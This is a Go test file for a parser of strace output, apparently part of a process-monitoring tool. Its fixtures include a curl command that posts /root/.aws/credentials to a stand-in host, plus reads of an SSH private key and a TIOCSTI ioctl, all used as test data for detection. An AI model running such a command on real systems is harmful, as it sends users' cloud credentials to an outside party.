package trace

import (
	"fmt"
	"sort"
	"strings"
	"testing"
	"time"

	"github.com/google/go-cmp/cmp"
)

func intp(n int) *int { return &n }

// TestParserInterleaved feeds hand-written lines: calls of several pids interleaved across
// unfinished/resumed pairs, a vfork child seen before its parent's vfork returns, cwd
// inheritance, signals, kills and escaped strings.
func TestParserInterleaved(t *testing.T) {
	in := `100 1.000001 execve("/bin/sh", ["sh", "-c", "cd sub && run"], 0x7ffe /* 3 vars */) = 0
100 1.000002 chdir("/work") = 0
100 1.000003 vfork( <unfinished ...>
101 1.000004 chdir("sub") = 0
101 1.000005 execve("/usr/bin/curl", ["curl", "-d", "@/root/.aws/credentials", "http://x.test/\"q\"\n"], 0x1 /* 3 vars */ <unfinished ...>
100 1.000006 <... vfork resumed>) = 101
100 1.000007 wait4(-1,  <unfinished ...>
101 1.000008 <... execve resumed>) = 0
101 1.000009 openat(AT_FDCWD, "out.txt", O_WRONLY|O_CREAT|O_TRUNC, 0666 <unfinished ...>
102 1.000010 openat(AT_FDCWD, "x", O_RDONLY) = 3
101 1.000011 <... openat resumed>) = 5
101 1.000012 connect(5, {sa_family=AF_INET, sin_port=htons(443), sin_addr=inet_addr("203.0.113.7")}, 16) = -1 ENETUNREACH (Network is unreachable)
101 1.000013 rename("out.txt", "/tmp/o") = 0
101 1.000014 openat(5, "rel", O_RDONLY) = -1 ENOTDIR (Not a directory)
101 1.000015 --- SIGPIPE {si_signo=SIGPIPE, si_code=SI_USER, si_pid=101, si_uid=0} ---
101 1.000016 +++ killed by SIGPIPE +++
100 1.000017 <... wait4 resumed>[{WIFSIGNALED(s) && WTERMSIG(s) == SIGPIPE}], 0, NULL) = 101
100 1.000018 --- SIGCHLD {si_signo=SIGCHLD, si_code=CLD_KILLED, si_pid=101} ---
100 1.000019 kill(100, SIGKILL) = ?
100 1.000020 +++ killed by SIGKILL +++
`
	tm := func(us int) time.Time { return time.Unix(1, int64(us)*1000).UTC() }
	tr, err := Parse(strings.NewReader(in), Options{})
	if err != nil {
		t.Fatal(err)
	}
	want := []Event{
		{Time: tm(1), PID: 100, Comm: "sh", Syscall: "execve", Kind: KindExec, Result: "0", Path: "/bin/sh", Argv: []string{"sh", "-c", "cd sub && run"}},
		{Time: tm(3), PID: 100, Comm: "sh", Syscall: "vfork", Kind: KindProcess, Result: "101", ChildPID: 101},
		{Time: tm(5), PID: 101, PPID: 100, Comm: "curl", Syscall: "execve", Kind: KindExec, Result: "0", Path: "/usr/bin/curl", Argv: []string{"curl", "-d", "@/root/.aws/credentials", "http://x.test/\"q\"\n"}},
		{Time: tm(10), PID: 102, Syscall: "openat", Kind: KindFileRead, Result: "3", Path: "x", Unresolved: true, Flags: "O_RDONLY"},
		// Completed after pid 102's call, stamped with the time it began.
		{Time: tm(9), PID: 101, PPID: 100, Comm: "curl", Syscall: "openat", Kind: KindFileCreate, Result: "5", Path: "/work/sub/out.txt", Flags: "O_WRONLY|O_CREAT|O_TRUNC"},
		{Time: tm(12), PID: 101, PPID: 100, Comm: "curl", Syscall: "connect", Kind: KindConnect, Result: "-1", Errno: "ENETUNREACH", Family: "AF_INET", Address: "203.0.113.7", Port: 443},
		{Time: tm(13), PID: 101, PPID: 100, Comm: "curl", Syscall: "rename", Kind: KindRename, Result: "0", Path: "/work/sub/out.txt", NewPath: "/tmp/o"},
		{Time: tm(14), PID: 101, PPID: 100, Comm: "curl", Syscall: "openat", Kind: KindFileRead, Result: "-1", Errno: "ENOTDIR", Path: "/work/sub/out.txt/rel", Flags: "O_RDONLY"},
		{Time: tm(15), PID: 101, PPID: 100, Comm: "curl", Kind: KindSignal, Signal: "SIGPIPE", Detail: "received"},
		{Time: tm(16), PID: 101, PPID: 100, Comm: "curl", Kind: KindExit, Signal: "SIGPIPE"},
		{Time: tm(19), PID: 100, Comm: "sh", Syscall: "kill", Kind: KindSignal, Result: "?", Signal: "SIGKILL", TargetPID: 100, Detail: "sent"},
		{Time: tm(20), PID: 100, Comm: "sh", Kind: KindExit, Signal: "SIGKILL"},
	}
	if diff := cmp.Diff(want, tr.Events); diff != "" {
		t.Errorf("events mismatch (-want +got):\n%s", diff)
	}
	p101 := tr.Processes[101]
	if p101 == nil || p101.PPID != 100 || p101.Signal != "SIGPIPE" || !p101.Exited {
		t.Errorf("process 101 = %+v, want child of 100 killed by SIGPIPE", p101)
	}
	if diff := cmp.Diff([]int{100, 102}, tr.Roots); diff != "" {
		t.Errorf("roots (-want +got):\n%s", diff)
	}
	if diff := cmp.Diff([]string{"curl -d @/root/.aws/credentials http://x.test/\"q\"\n", "sh -c cd sub && run"}, sortedCopy(tr.Summary.Commands)); diff != "" {
		t.Errorf("commands (-want +got):\n%s", diff)
	}
	if diff := cmp.Diff([]string{"/tmp/o", "/work/sub/out.txt"}, tr.Summary.FilesWritten); diff != "" {
		t.Errorf("files written (-want +got):\n%s", diff)
	}
	if got := tr.Summary.Network; len(got) != 1 || got[0].Endpoint != "203.0.113.7:443" || got[0].Failed != 1 {
		t.Errorf("network = %+v", got)
	}
}

func sortedCopy(s []string) []string {
	out := append([]string(nil), s...)
	sort.Strings(out)
	return out
}

// TestUnixSocketPaths: a Unix socket's relative file name is resolved against the process's
// working directory (waitress's tests bind and connect "@test_7_tmp", a file in their directory,
// which read as an abstract name and as a host service); an abstract name stays one.
func TestUnixSocketPaths(t *testing.T) {
	in := `7 1.000001 bind(12, {sa_family=AF_UNIX, sun_path="@test_7_tmp"}, 14) = 0
7 1.000002 connect(13, {sa_family=AF_UNIX, sun_path="@test_7_tmp"}, 14) = 0
7 1.000003 connect(14, {sa_family=AF_UNIX, sun_path=@"/tmp/.X11-unix/X0"}, 20) = -1 ECONNREFUSED (Connection refused)
8 1.000004 connect(3, {sa_family=AF_UNIX, sun_path="rel.sock"}, 11) = 0
`
	tr, err := Parse(strings.NewReader(in), Options{Cwd: "/work/pyti/sdist-tree"})
	if err != nil {
		t.Fatal(err)
	}
	var got []string
	for _, e := range tr.Events {
		got = append(got, fmt.Sprintf("%d %s %s", e.PID, e.Syscall, e.Endpoint()))
	}
	want := []string{"7 bind unix:/work/pyti/sdist-tree/@test_7_tmp", "7 connect unix:/work/pyti/sdist-tree/@test_7_tmp",
		"7 connect unix:@/tmp/.X11-unix/X0", "8 connect unix:./rel.sock"}
	if diff := cmp.Diff(want, got); diff != "" {
		t.Errorf("endpoints (-want +got):\n%s", diff)
	}
}

// TestParserDecorations checks -y output: the directory of AT_FDCWD and of a dirfd come from
// strace itself, fchdir follows a descriptor.
func TestParserDecorations(t *testing.T) {
	in := `7 1.5 openat(AT_FDCWD</home/u>, ".ssh/id_rsa", O_RDONLY|O_CLOEXEC) = 3</home/u/.ssh/id_rsa>
7 1.5 unlinkat(6</tmp/st/rm/a/b>, "f", 0) = 0
7 1.5 fchdir(3</tmp/we\74i,r\76d \"d>) = 0
7 1.5 unlink("zz") = 0
7 1.5 ioctl(0</dev/pts/0>, TIOCSTI, "x") = -1 EPERM (Operation not permitted)
7 1.5 ioctl(0</dev/null>, TCGETS, 0x7ff) = -1 ENOTTY (Inappropriate ioctl for device)
7 1.5 ioctl(0</dev/null>, 21505, 0x7ff) = -1 ENOTTY (Inappropriate ioctl for device)
7 1.5 ioctl(3</dev/tty>, 0x541c, 0x7ff) = -1 EPERM (Operation not permitted)
7 1.5 sendmsg(3<socket:[15782]>, {msg_name={sa_family=AF_INET, sin_port=htons(53), sin_addr=inet_addr("8.8.8.8")}, msg_namelen=16, msg_iov=[{iov_base="hello", iov_len=5}], msg_iovlen=1, msg_controllen=0, msg_flags=0}, 0) = 5
7 1.5 sendto(4<socket:[1]>, "x", 1, MSG_NOSIGNAL, NULL, 0) = 1
7 1.5 clone3({flags=CLONE_VM|CLONE_FS|CLONE_FILES|CLONE_SIGHAND|CLONE_THREAD|CLONE_SYSVSEM, child_tid=0x7f, exit_signal=0} => {parent_tid=[8]}, 88) = 8
8 1.5 openat(AT_FDCWD, "t", O_RDWR) = 9
7 1.5 memfd_create("x", MFD_CLOEXEC) = 4</memfd:x>(deleted)
7 1.5 unshare(CLONE_NEWNS|CLONE_NEWUSER) = -1 EPERM (Operation not permitted)
7 1.5 socket(AF_PACKET, SOCK_RAW|SOCK_CLOEXEC, htons(0 /* ETH_P_??? */)) = -1 EPERM (Operation not permitted)
7 1.5 ptrace(PTRACE_TRACEME) = -1 EPERM (Operation not permitted)
`
	tr, err := Parse(strings.NewReader(in), Options{})
	if err != nil {
		t.Fatal(err)
	}
	tm := time.Unix(1, 500000000).UTC()
	want := []Event{
		{Time: tm, PID: 7, Syscall: "openat", Kind: KindFileRead, Result: "3", Path: "/home/u/.ssh/id_rsa", Flags: "O_RDONLY|O_CLOEXEC"},
		{Time: tm, PID: 7, Syscall: "unlinkat", Kind: KindFileDelete, Result: "0", Path: "/tmp/st/rm/a/b/f", Flags: "0"},
		{Time: tm, PID: 7, Syscall: "unlink", Kind: KindFileDelete, Result: "0", Path: `/tmp/we<i,r>d "d/zz`},
		{Time: tm, PID: 7, Syscall: "ioctl", Kind: KindIoctl, Result: "-1", Errno: "EPERM", Path: "/dev/pts/0", Request: "TIOCSTI"},
		{Time: tm, PID: 7, Syscall: "ioctl", Kind: KindIoctl, Result: "-1", Errno: "EPERM", Path: "/dev/tty", Request: "TIOCLINUX"},
		{Time: tm, PID: 7, Syscall: "sendmsg", Kind: KindSend, Result: "5", Family: "AF_INET", Address: "8.8.8.8", Port: 53},
		{Time: tm, PID: 8, PPID: 7, Syscall: "openat", Kind: KindFileWrite, Result: "9", Path: `/tmp/we<i,r>d "d/t`, Flags: "O_RDWR"},
		{Time: tm, PID: 7, Syscall: "memfd_create", Kind: KindOtherNotable, Result: "4", Name: "x"},
		{Time: tm, PID: 7, Syscall: "unshare", Kind: KindOtherNotable, Result: "-1", Errno: "EPERM", Detail: "CLONE_NEWNS|CLONE_NEWUSER"},
		{Time: tm, PID: 7, Syscall: "socket", Kind: KindSocket, Result: "-1", Errno: "EPERM", Family: "AF_PACKET", Detail: "SOCK_RAW|SOCK_CLOEXEC"},
		{Time: tm, PID: 7, Syscall: "ptrace", Kind: KindPtrace, Result: "-1", Errno: "EPERM", Request: "PTRACE_TRACEME"},
	}
	if diff := cmp.Diff(want, tr.Events); diff != "" {
		t.Errorf("events mismatch (-want +got):\n%s", diff)
	}
	if !tr.Processes[8].Thread {
		t.Errorf("pid 8 should be a thread: %+v", tr.Processes[8])
	}
}

func TestParserBounded(t *testing.T) {
	var b strings.Builder
	for i := 0; i < 10; i++ {
		fmt.Fprintf(&b, "1 1.%06d openat(AT_FDCWD, \"/f%d\", O_RDONLY) = 3\n", i, i)
	}
	var seen []string
	tr, err := Parse(strings.NewReader(b.String()), Options{MaxEvents: 5, OnEvent: func(e Event) { seen = append(seen, e.Path) }})
	if err != nil {
		t.Fatal(err)
	}
	var got []string
	for _, e := range tr.Events {
		got = append(got, e.Path)
	}
	if diff := cmp.Diff([]string{"/f0", "/f1", "/f2", "/f8", "/f9"}, got); diff != "" {
		t.Errorf("kept (-want +got):\n%s", diff)
	}
	if tr.Total != 10 || tr.Dropped != 5 || len(seen) != 10 || tr.Summary.Counts[KindFileRead] != 10 {
		t.Errorf("total %d dropped %d seen %d counts %v", tr.Total, tr.Dropped, len(seen), tr.Summary.Counts)
	}
}

func TestParserLongLine(t *testing.T) {
	long := strings.Repeat(`\x41`, 100000)
	in := "1 1.0 execve(\"/bin/echo\", [\"echo\", \"" + long + "\"], 0x1 /* 1 vars */) = 0\n" +
		"1 1.1 openat(AT_FDCWD, \"/after\", O_RDONLY) = 3\n"
	tr, err := Parse(strings.NewReader(in), Options{MaxLineBytes: 1000})
	if err != nil {
		t.Fatal(err)
	}
	if tr.LongLines != 1 || len(tr.Events) != 2 {
		t.Fatalf("long %d events %+v", tr.LongLines, tr.Events)
	}
	ex := tr.Events[0]
	if ex.Kind != KindExec || ex.Path != "/bin/echo" || !ex.Truncated || len(ex.Argv) != 2 || !strings.HasPrefix(ex.Argv[1], "AAAA") {
		t.Errorf("exec event = %+v", ex)
	}
	if tr.Events[1].Path != "/after" {
		t.Errorf("line after the long one: %+v", tr.Events[1])
	}
}
